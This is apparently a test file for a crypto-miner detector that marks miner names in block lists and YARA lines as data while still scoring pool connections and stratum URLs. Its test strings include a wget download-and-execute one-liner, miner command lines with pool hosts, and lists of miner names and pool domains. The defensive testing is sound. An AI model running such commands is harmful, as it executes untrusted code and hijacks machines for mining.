// Text about miners is data: its names weigh nothing, while a miner's strong signs still count.
import t from 'tap'
import { isDataText, isDetectionTool, isProse, lineOf, markDataContext, programOf } from '../../src/detect/data-context.ts'
import { type Signal, scoreSignals } from '../../src/detect/signals.ts'
import { GROWTH, growthRatio, LINEAR_RATIO_LIMIT, repeatedTo } from '../helpers/linear-cost.ts'
import { defaultSignalData } from '../helpers/signal-data.ts'

t.test('the program of a command line is its first word, or the first word of an sh -c script', async (t) => {
  t.same(['/usr/bin/yara -r x', 'sh -c grep -E xmrig /proc', 'bash -c', '', '/bin/busybox'].map(programOf), ['yara', 'grep', 'bash', undefined, 'busybox'])
  t.ok(isDetectionTool('yara -r /rules/xmrig.yar /host'))
  t.notOk(isDetectionTool('/opt/app --scan'))
})

t.test('prose is mostly words; scripts and lists are not prose', async (t) => {
  t.ok(isProse('Like this tool? Donations welcome: XMR 4abc or BTC 1abc. Thank you!'))
  t.ok(isProse('Example of a blocked command line: xmrig -o pool.example.net:3333 (see the detection docs)'))
  t.notOk(isProse('cd /tmp && wget http://x/y -O k && chmod +x k && ./k -o pool:1'))
  t.notOk(isProse('xmrig,xmr-stak,minerd'))
  t.ok(isDataText('xmrig,xmr-stak,minerd', 3))
  t.ok(isDataText('/rules/xmrig.yar', 1))
  t.notOk(isDataText('./xmrig -o pool.example.net:3333', 1))
})

t.test('fields map to their command line', async (t) => {
  t.same(
    ['command[2]', 'args[0]', 'args[0] (base64-decoded)', 'env[3].value', 'lifecycle.postStart.exec.command[1]', 'volume "v" annotations[\'a\']'].map(lineOf),
    ['command', 'command', 'command', 'env[3].value', 'lifecycle.postStart.exec.command', 'volume "v" annotations[\'a\']'],
  )
})

const data = await defaultSignalData()
const signal = (kind: Signal['kind'], field: string, quote: string): Signal => ({ kind, field, quote })

t.test('names in a detection tool line or a block list weigh nothing; a stratum URL there still counts', async (t) => {
  const found = [
    signal('miner-binary', 'command[3]', 'xmrig'),
    signal('pool-domain', 'env[0].value', 'supportxmr.com'),
    signal('stratum-url', 'command[4]', 'stratum+tcp://x:1'),
  ]
  markDataContext(
    found,
    [{ field: 'env[0].value', text: 'supportxmr.com,nanopool.org,minexmr.com' }],
    [{ field: 'command[0]', text: 'yara -r xmrig.yar stratum+tcp://x:1' }],
    [false],
  )
  t.same(
    found.map((entry) => entry.inData === true),
    [true, false, false],
    'one pool name in a list is not yet a list',
  )
  t.equal(scoreSignals(found, data).score, 20, 'the stratum URL and the pool count; the name in the YARA line does not')
})

t.test('a command line that connects to a pool is never data, whatever the program is called', async (t) => {
  const found = [signal('pool-domain', 'command[2]', 'pool.supportxmr.com'), signal('wallet', 'command[4]', '4…')]
  markDataContext(found, [], [{ field: 'command[0]', text: '/opt/yara -o pool.supportxmr.com:443 -u 4…' }], [true])
  t.same(
    found.map((entry) => entry.inData === true),
    [false, false],
  )
  t.equal(scoreSignals(found, data).action, 'deny')
})

t.test('nothing is marked when no name-like signal was found', async (t) => {
  const found = [signal('decode-to-shell', 'command[2]', '| sh')]
  markDataContext(found, [], [{ field: 'command[0]', text: 'grep x | sh' }], [false])
  t.equal(found[0]?.inData, undefined)
})

t.test('prose detection costs time linear in its input', async (t) => {
  for (const unit of ['word ', 'a.b ', '((((', ' ']) {
    const ratio = growthRatio(
      (size) => repeatedTo(unit, size),
      (text) => isProse(text),
    )
    t.ok(ratio < LINEAR_RATIO_LIMIT, `${JSON.stringify(unit)}: cost ratio ${ratio.toFixed(1)} for ${GROWTH}x the text`)
  }
})
